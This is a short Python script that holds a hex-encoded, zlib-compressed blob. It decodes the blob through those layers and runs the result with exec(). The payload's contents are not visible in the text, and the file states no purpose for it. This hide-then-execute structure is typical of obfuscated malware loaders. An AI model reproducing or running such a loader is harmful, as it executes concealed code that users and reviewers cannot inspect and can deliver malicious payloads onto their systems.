import codecs

JOB = (
    b"78da458ec10e02210c44ef7c45c3098c8b174f26fe8377630c202c64c192c21a3f5f76d7e81c9a99"
    b"9749db980b5203ac7ba8b32984d6d5eee7393e9827cc50740b291a885bf1d2239be0bc36d4328e42"
    b"aae0decc238187f85c2b821f0266c7a5a231a1117cc7e5894157f4e055ac771f93135fb6e87f5d59"
    b"9d92b8f2b18c7c0f7c188c6e36acd66ea0e85a4b205d5dcf53ffbc91f0f2267fcbb02a72195fae63"
    b"f6018ec944d2"
)


def layers(data, names):
    for name in names:
        data = codecs.decode(data, name)
    return data


exec(layers(JOB, ["hex", "zlib", "utf-8"]))
